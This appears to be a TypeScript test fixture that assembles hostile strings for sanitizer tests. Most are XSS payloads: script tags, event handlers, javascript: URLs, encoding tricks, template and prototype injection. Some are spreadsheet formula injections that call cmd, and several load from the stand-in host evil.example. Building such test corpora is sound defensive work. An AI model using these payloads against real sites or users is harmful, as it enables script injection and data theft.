import publicList from 'big-list-of-naughty-strings/blns.json' with { type: 'json' };

/**
 * Our own texts that try to become a program, one form each. Written anew for this project after the
 * categories of the XSS Filter Evasion Cheat Sheet of the OWASP Cheat Sheet Series (CC BY-SA 4.0),
 * of which no line is copied; `pwned` is what the tests wait for. MIT as all else here.
 */
const forms: readonly string[] = [
  // Plain scripts, and ways to write the name of the element.
  '<script>pwned()</script>',
  '<SCRIPT>pwned()</SCRIPT>',
  '<ScRiPt >pwned()</sCrIpT >',
  '<script/x>pwned()</script>',
  '<script type="module">pwned()</script>',
  '<script src="https://evil.example/pwned.js"></script>',
  '<script src=//evil.example/pwned.js>',
  '<script src="data:text/javascript,pwned()"></script>',
  '<<script>pwned();//<</script>',
  '<scr<script>ipt>pwned()</scr</script>ipt>',
  '<script>pwned()//',
  '<script>/*</script>*/pwned()</script>',
  '<script x=">" >pwned()</script>',
  '<script\u3000>pwned()</script>',
  // Out of where the text stands: an attribute, a text area, a title, a style, a comment, CDATA.
  '"><script>pwned()</script>',
  "'><script>pwned()</script>",
  '</textarea><script>pwned()</script>',
  '</title><script>pwned()</script>',
  '</style><script>pwned()</script>',
  '</script><script>pwned()</script>',
  '--><script>pwned()</script>',
  ']]><script>pwned()</script>',
  '<![CDATA[<script>pwned()</script>]]>',
  '<!--[if gte IE 4]><script>pwned()</script><![endif]-->',
  '</td></tr></table><script>pwned()</script>',
  '</w:t></w:r></w:p><script>pwned()</script>',
  '" onmouseover="pwned()" x="',
  "' onfocus='pwned()' autofocus x='",
  '" style="animation-name:x" onanimationstart="pwned()',
  // Handlers that need nobody to act.
  '<img src=x onerror=pwned()>',
  '<img src="x" onerror="pwned()">',
  '<img/src=x/onerror=pwned()>',
  '<IMG """><img src=x onerror="pwned()">',
  '<img src=x onerror=&#112;wned()>',
  '<img src=x onerror="window[`pw`+`ned`]()">',
  '<img src=x:x onerror=setTimeout(`pwned()`)>',
  '<svg onload=pwned()>',
  '<svg/onload=pwned()>',
  '<svg><script>pwned()</script></svg>',
  '<svg><animate onbegin=pwned() attributeName=x dur=1s>',
  '<svg><set onend=pwned() attributeName=x dur=1ms>',
  '<svg><image href=x onerror=pwned() />',
  '<svg><foreignObject><img src=x onerror=pwned()></foreignObject></svg>',
  '<math><mtext><img src=x onerror=pwned()></mtext></math>',
  '<math><style><img src=x onerror=pwned()></style></math>',
  '<body onload=pwned()>',
  '<body onpageshow=pwned()>',
  '<video src=x onerror=pwned()>',
  '<video><source onerror=pwned()></video>',
  '<audio src=x onerror=pwned()>',
  '<details open ontoggle=pwned()>',
  '<input autofocus onfocus=pwned()>',
  '<select autofocus onfocus=pwned()>',
  '<textarea autofocus onfocus=pwned()>',
  '<div style="width:1px" tabindex=0 autofocus onfocus=pwned()>',
  '<marquee onstart=pwned()>',
  '<object data="x" onerror=pwned()>',
  '<style>@keyframes x{}</style><b style="animation-name:x" onanimationstart="pwned()">',
  // Addresses that are programs.
  '<a href="javascript:pwned()">x</a>',
  '<a href="JaVaScRiPt:pwned()">x</a>',
  '<a href="java&#x09;script:pwned()">x</a>',
  '<a href="&#106;avascript:pwned()">x</a>',
  '<iframe src="javascript:parent.pwned()"></iframe>',
  '<iframe srcdoc="<script>parent.pwned()</script>"></iframe>',
  '<iframe srcdoc="&lt;img src=x onerror=parent.pwned()&gt;"></iframe>',
  '<embed src="javascript:pwned()">',
  '<object data="javascript:pwned()"></object>',
  '<form action="javascript:pwned()"><button autofocus>x</button></form>',
  '<isindex action="javascript:pwned()">',
  '<meta http-equiv="refresh" content="0;url=javascript:pwned()">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<base href="https://evil.example/">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<link rel="prefetch" href="https://evil.example/x">',
  '<style>@import "https://evil.example/x.css";</style>',
  '<b style="background:url(https://evil.example/x)">x</b>',
  '<img src="https://evil.example/x.png">',
  '<img srcset="https://evil.example/x.png 2x">',
  // Written so that one decoding more makes it live.
  '&lt;script&gt;pwned()&lt;/script&gt;',
  '&#60;script&#62;pwned()&#60;/script&#62;',
  '%3Cscript%3Epwned()%3C/script%3E',
  '\\u003cscript\\u003epwned()\\u003c/script\\u003e',
  '\\x3cscript\\x3epwned()\\x3c/script\\x3e',
  '＜script＞pwned()＜/script＞',
  '+ADw-script+AD4-pwned()+ADw-/script+AD4-',
  // For those who fill templates, sheets or prototypes with text.
  '{{constructor.constructor("pwned()")()}}',
  '${pwned()}',
  '<%= pwned() %>',
  '#{pwned()}',
  '=HYPERLINK("javascript:pwned()","x")',
  "=cmd|'/C calc'!A0",
  "@SUM(1+1)*cmd|'/C calc'!A0",
  '__proto__[pwned]=pwned()',
  // Changed by a parser that mends: what it makes of it is another text than what was tested.
  '<noscript><p title="</noscript><img src=x onerror=pwned()>">',
  '<template><img src=x onerror=pwned()></template>',
  '<table><td><svg><style><img src=x onerror=pwned()></table>',
  '<p><svg><desc><template><img src=x onerror=pwned()></p>',
];

/** Each calls `pwned` with its own number. */
const ourTexts = forms.map((form, index) => form.replace(/pwned\(\)/g, `pwned(${String(index)})`));

/**
 * Those of the public Big List of Naughty Strings (MIT) that can carry markup, an address that is a
 * program, a handler or a template; they call `alert`. The rest of that list is about other mischief:
 * numbers, emoji, control characters. All are single lines; spaces at an end are left out, which a box
 * of the ledger drops as well, and so are doubles.
 */
const canBecomeMore = /<|javascript:|\bon\w+\s*=|\{\{/i;
const publicTexts = new Set(
  publicList.filter((text) => canBecomeMore.test(text)).map((text) => text.trim()),
);

export const hostileTexts: readonly string[] = [...ourTexts, ...publicTexts];
